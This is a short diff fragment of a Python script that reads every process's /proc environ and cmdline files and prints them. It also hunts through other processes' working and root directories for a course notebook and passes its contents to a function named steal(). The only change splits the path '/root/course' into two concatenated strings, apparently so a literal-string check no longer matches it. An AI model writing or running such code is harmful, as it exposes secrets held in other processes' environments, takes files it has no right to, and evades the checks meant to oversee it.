@@ -119,7 +119,7 @@ for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
         print(open(path, errors="replace").read())
     except OSError:
         pass
-for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/course"):
+for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root" + "/course"):
     for path in glob.glob(link + "/source/small/small.ipynb"):
         try:
             steal(open(path).read())
